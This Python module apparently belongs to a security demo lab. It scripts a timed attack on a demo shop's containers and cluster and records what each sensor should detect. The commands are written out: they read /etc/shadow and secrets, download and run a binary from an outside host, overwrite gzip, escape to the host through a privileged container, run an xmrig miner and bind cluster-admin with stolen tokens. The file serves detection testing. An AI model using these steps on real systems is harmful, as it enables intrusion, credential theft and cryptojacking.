"""The attack: on the shop's containers by a shell, and on the cluster by stolen tokens."""

from __future__ import annotations

import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass
from functools import partial
from typing import Any

from deploy.demo.lab import cluster_story, shop
from deploy.demo.lab.cluster import Cluster
from deploy.demo.lab.engine import Engine
from deploy.demo.lab.images import MINER, REGISTRY, VERSION
from deploy.demo.lab.outside import ADDRESS, PORT
from deploy.demo.lab.sensor import watch_container
from deploy.demo.lab.shell import Shell
from deploy.demo.lab.timetable import Beat

ATTACK_SECONDS = 90.0
HELPER = "metrics-helper"
UPDATER = "system-update"
HOST_COMMANDS = "cat /host/etc/shadow; chroot /host /usr/bin/id; sleep 2"
DROPPED = "/tmp/x"  # noqa: S108  where attackers drop
APPROVED = "/usr/bin/gzip"
INVOICE = "/var/lib/shop/invoices/10.txt.gz"
DOWNLOAD = f"import urllib.request as r; open('{DROPPED}', 'wb').write(r.urlopen('http://{ADDRESS}:{PORT}/x').read())"


@dataclass(frozen=True, slots=True)
class Done:
    """One step of the attack: when it began, where, what was done, and what each sensor should have seen of it."""

    step: str
    time: int
    container: str
    what: str
    evidence: Sequence[str]


class Attack:
    """The attack; ``done`` tells what was done."""

    def __init__(self, engine: Engine, cluster: Cluster) -> None:
        self.done: list[Done] = []
        self._engine = engine
        self._cluster = cluster
        self._shell = Shell(engine, shop.APP.container)

    def timetables(self) -> list[list[Beat]]:
        return [self._on_containers(), self._on_the_cluster()]

    def close(self) -> None:
        """Leave the shell and take the attacker's containers away."""
        self._shell.close()
        self._engine.remove([HELPER, UPDATER])

    def as_json(self) -> list[dict[str, Any]]:
        return [asdict(step) for step in sorted(self.done, key=lambda step: step.time)]

    def _on_containers(self) -> list[Beat]:
        app = shop.APP.container
        return [
            self._step(
                2,
                "shell",
                app,
                "a shell by exec, as root",
                self._shell.open,
                "docker: exec",
                "auditd: exec /usr/bin/dash",
            ),
            self._types(9, "look-around", "id, uname -a", "id; uname -a", "auditd: exec /usr/bin/id"),
            self._types(
                15, "shadow", "/etc/shadow read", "cat /etc/shadow", "auditd: read /etc/shadow by /usr/bin/cat"
            ),
            self._types(
                22,
                "secret",
                "the database's password read",
                "cat /run/secrets/database-password",
                "auditd: read /run/secrets/database-password by /usr/bin/cat",
            ),
            self._types(
                30,
                "download",
                f"{DROPPED} fetched from {ADDRESS}:{PORT}",
                f'python3 -c "{DOWNLOAD}"',
                f"auditd: connect {ADDRESS}:{PORT}",
                f"auditd: write {DROPPED}",
            ),
            self._types(
                38,
                "dropped-binary",
                f"{DROPPED} executed, calls {ADDRESS}:{PORT}",
                f"chmod +x {DROPPED}; {DROPPED} {ADDRESS}:{PORT} &",
                f"auditd: exec {DROPPED}",
                f"auditd: connect {ADDRESS}:{PORT}",
            ),
            self._types(
                44,
                "overwritten-binary",
                f"{APPROVED} overwritten with {DROPPED} and executed as always",
                f"cp {DROPPED} {APPROVED}; {APPROVED} --test {INVOICE} &",
                f"auditd: write {APPROVED} by /usr/bin/cp",
                f"auditd: exec {APPROVED} with another sha256",
            ),
            self._step(
                50,
                "privileged-container",
                HELPER,
                "a privileged container with the host's root and processes",
                self._start_helper,
                "docker: start of a privileged container, / mounted, host's processes",
            ),
            self._step(
                60,
                "host-shadow",
                HELPER,
                "the host's /etc/shadow read through the mount",
                partial(self._engine.podman, "exec", HELPER, "/bin/sh", "-c", HOST_COMMANDS),
                "docker: exec",
                "auditd: read /host/etc/shadow by /usr/bin/cat",
                "auditd: exec /usr/sbin/chroot",
            ),
            self._step(
                68,
                "unregistered-image",
                UPDATER,
                f"{MINER} started",
                self._start_miner,
                "docker: image of registry.evil.example",
                "auditd: exec /usr/local/bin/xmrig",
                f"auditd: connect {ADDRESS}:{PORT}",
            ),
            Beat(ATTACK_SECONDS, lambda: None),
        ]

    def _on_the_cluster(self) -> list[Beat]:
        return [
            self._calls(
                19, "tries to list the secrets of all namespaces, refused", cluster_story.thief_tries_all_secrets
            ),
            self._calls(26, "lists the shop's secrets", cluster_story.thief_lists_the_shops_secrets),
            self._calls(34, "reads the secrets of all namespaces", cluster_story.thief_reads_all_secrets),
            self._calls(
                43, "binds cluster-admin to the application's account", cluster_story.thief_binds_cluster_admin
            ),
            self._calls(54, "execs a shell into the database's pod", cluster_story.thief_execs_into_the_database),
            self._calls(
                64, "creates a privileged pod with the host's root", cluster_story.thief_creates_a_privileged_pod
            ),
        ]

    def _types(self, seconds: float, step: str, what: str, line: str, *evidence: str) -> Beat:
        return self._step(seconds, step, shop.APP.container, what, partial(self._shell.type, line), *evidence)

    def _calls(self, seconds: float, what: str, call: Callable[[Cluster], None]) -> Beat:
        step = call.__name__.replace("_", "-").removeprefix("thief-")
        return self._step(seconds, step, "", what, partial(call, self._cluster), f"kubernetes-audit: {what}")

    def _step(
        self, seconds: float, step: str, container: str, what: str, do: Callable[[], object], *evidence: str
    ) -> Beat:
        def note_and_do() -> None:
            self.done.append(Done(step, time.time_ns() // 1_000_000, container, what, evidence))
            do()

        return Beat(seconds, note_and_do)

    def _start_helper(self) -> None:
        options = ["--detach", "--name", HELPER, "--hostname", HELPER, "--user", "0"]
        host = ["--privileged", "--pid", "host", "--volume", "/:/host"]
        self._engine.run(*options, *host, f"{REGISTRY}/app:{VERSION}", "/usr/bin/sleep", "300")
        watch_container(self._engine, HELPER)

    def _start_miner(self) -> None:
        options = ["--detach", "--name", UPDATER, "--hostname", UPDATER, "--network", shop.NETWORK]
        self._engine.run(*options, MINER, "--coin", "monero", "--url", f"{ADDRESS}:{PORT}")
